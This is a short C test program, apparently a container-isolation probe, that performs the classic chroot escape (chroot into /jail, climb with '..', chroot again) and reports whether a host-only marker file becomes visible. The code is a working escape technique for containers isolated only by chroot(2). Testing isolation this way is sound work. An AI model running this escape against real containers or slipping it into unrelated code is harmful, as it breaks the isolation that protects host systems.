/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The classic chroot escape, run inside a container that has
 * CAP_SYS_CHROOT: chroot into a subdirectory while keeping the working
 * directory outside it, climb with "..", and chroot to where the climb
 * ended.  Inside a pivot_root'ed container the climb stops at the
 * container's root; with only chroot(2) it may not.
 * Prints "PROBE: ESCAPED" if a file that exists only in the initramfs is
 * then visible, "PROBE: CONTAINED" otherwise, and the listing of "/".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	DIR *dir;
	struct dirent *e;

	mkdir("/jail", 0755);
	if (chroot("/jail") != 0) {
		perror("PROBE: chroot /jail");
		return 2;
	}
	for (int i = 0; i < 256; i++)
		if (chdir("..") != 0)
			break;
	if (chroot(".") != 0) {
		perror("PROBE: chroot .");
		return 2;
	}
	if (chdir("/") != 0)
		return 2;
	printf("PROBE: %s\n", access("/initramfs-only-marker", F_OK) == 0 ? "ESCAPED" : "CONTAINED");
	printf("PROBE: ls / =");
	dir = opendir("/");
	while (dir && (e = readdir(dir)))
		printf(" %s", e->d_name);
	printf("\n");
	return 0;
}
